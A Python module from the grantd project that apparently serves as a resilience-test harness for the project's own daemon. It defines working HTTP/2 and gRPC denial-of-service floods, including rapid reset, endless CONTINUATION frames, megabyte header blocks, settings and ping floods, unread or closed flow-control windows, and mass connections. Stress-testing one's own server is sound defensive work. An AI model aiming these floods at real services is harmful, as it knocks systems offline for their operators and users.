# SPDX-License-Identifier: Apache-2.0
# This source file is part of grantd.
# Copyright (c) 2026 the grantd authors
"""Attacks on the daemon's gRPC: costly calls, replies that are not read, and what HTTP/2 lets a peer send without end."""

from __future__ import annotations

import contextlib
import itertools
import threading
from collections.abc import Callable, Iterator

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

import frames
import grpc_caller
from crowd import connect
from grpc_caller import GRPCCaller
from http_attacks import Flood

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_LARGEST_WINDOW = (1 << 31) - 1
_DEFAULT_WINDOW = (1 << 16) - 1
_LARGEST_FRAME = 1 << 14

CALL = frames.text(1, frames.SHORT)
_EXPLAINED = frames.text(1, frames.empty_items(10_000)) + frames.number(4, 1)
_BATCH = frames.text(1, frames.items(225)) * 2200


def _bytes(*all_of_them: Frame) -> bytes:
    return b"".join(one.serialize() for one in all_of_them)


def _head(window: int = _DEFAULT_WINDOW) -> bytes:
    """What a connection begins with; `window` is how much of each reply its peer would take."""
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window})
    return _PREFACE + _bytes(settings, WindowUpdateFrame(0, window_increment=_LARGEST_WINDOW - _DEFAULT_WINDOW))


def _block(path: str, *more: tuple[str, str]) -> bytes:
    """A call's headers; they lean on none before them."""
    return hpack.Encoder().encode([*grpc_caller.headers(path), *more])


def _streams(first: int, count: int) -> range:
    return range(first, first + 2 * count, 2)


def _calls(path: str, payload: bytes, first: int, count: int) -> bytes:
    """So many calls at once."""
    block, message = _block(path), grpc_caller.message(payload)
    return b"".join(
        _bytes(HeadersFrame(stream, block, flags=["END_HEADERS"]), DataFrame(stream, message, flags=["END_STREAM"]))
        for stream in _streams(first, count)
    )


def _endlessly(make: Callable[[int, int], bytes], count: int) -> Iterator[bytes]:
    """What `make` makes of a first stream and a count of them, again and again on new streams."""
    return (make(first, count) for first in range(1, 1 << 31, 2 * count))


def _flood(
    count: int, pieces: Callable[[], Iterator[bytes]], *, window: int = _DEFAULT_WINDOW, interval: float = 0, reads: bool = True
) -> Callable[[int], None]:
    def all_of(_: int) -> Iterator[bytes]:
        return itertools.chain([_head(window)], pieces())

    return lambda port: Flood(port, count, all_of, interval=interval, reads=reads).run()


def _callers(count: int, path: str, payload: bytes) -> Callable[[int], None]:
    """Connections with one call after the other."""

    def attack(port: int, index: int) -> None:
        while True:
            with contextlib.suppress(OSError), connect(port, index, 8) as peer:
                peer.settimeout(60)
                caller = GRPCCaller(peer)
                while True:
                    caller.call(path, payload)

    def run(port: int) -> None:
        threads = [threading.Thread(target=attack, args=(port, index), daemon=True) for index in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    return run


def _evaluate(first: int, count: int) -> bytes:
    return _calls(grpc_caller.EVALUATE, CALL, first, count)


def _get_schema(first: int, count: int) -> bytes:
    return _calls(grpc_caller.GET_SCHEMA, b"", first, count)


def _opened_and_reset(first: int, count: int) -> bytes:
    """Calls that are taken back at once."""
    block = _block(grpc_caller.EVALUATE)
    return b"".join(
        _bytes(HeadersFrame(stream, block, flags=["END_HEADERS"]), RstStreamFrame(stream, error_code=8))
        for stream in _streams(first, count)
    )


def _without_bodies(first: int, count: int) -> bytes:
    """Calls whose messages never come."""
    block = _block(grpc_caller.EVALUATE)
    return _bytes(*(HeadersFrame(stream, block, flags=["END_HEADERS"]) for stream in _streams(first, count)))


def _endless_headers() -> Iterator[bytes]:
    """Headers that never end."""
    field = hpack.Encoder().encode([("x", "y" * 8000)], huffman=False)
    yield _bytes(HeadersFrame(1, _block(grpc_caller.EVALUATE)))
    yield from itertools.repeat(_bytes(ContinuationFrame(1, field)))


def _large_headers(first: int, count: int) -> bytes:
    """Calls with a megabyte of metadata each, in as few frames as may be."""
    fields = _block(grpc_caller.EVALUATE, *((f"x-{index}", "y" * 8000) for index in range(128)))
    pieces = [fields[at : at + _LARGEST_FRAME] for at in range(0, len(fields), _LARGEST_FRAME)]
    out: list[Frame] = []
    for stream in _streams(first, count):
        out.append(HeadersFrame(stream, pieces[0]))
        out += (ContinuationFrame(stream, piece) for piece in pieces[1:-1])
        out.append(ContinuationFrame(stream, pieces[-1], flags=["END_HEADERS"]))
    return _bytes(*out)


_SETTINGS = _bytes(*[SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: _DEFAULT_WINDOW})] * 400)
_PINGS = _bytes(*[PingFrame(0, opaque_data=bytes(8))] * 400)

ATTACKS: dict[str, Callable[[int], None]] = {
    "grpc-explained-lists x16": _callers(16, grpc_caller.EVALUATE, _EXPLAINED),
    "grpc-batches x4": _callers(4, grpc_caller.EVALUATE_BATCH, _BATCH),
    "grpc-connections x1000": _flood(1000, lambda: _endlessly(_evaluate, 1), interval=0.5),
    "grpc-not-reading x40": _flood(40, lambda: _endlessly(_get_schema, 20), window=_LARGEST_WINDOW, reads=False),
    "grpc-closed-windows x40": _flood(40, lambda: _endlessly(_get_schema, 20), window=0),
    "grpc-no-bodies x100": _flood(100, lambda: iter([_without_bodies(1, 100)])),
    "grpc-rapid-reset x16": _flood(16, lambda: _endlessly(_opened_and_reset, 100)),
    "grpc-endless-headers x16": _flood(16, _endless_headers),
    "grpc-large-headers x16": _flood(16, lambda: _endlessly(_large_headers, 1)),
    "grpc-settings x16": _flood(16, lambda: itertools.repeat(_SETTINGS)),
    "grpc-pings x16": _flood(16, lambda: itertools.repeat(_PINGS), reads=False),
}
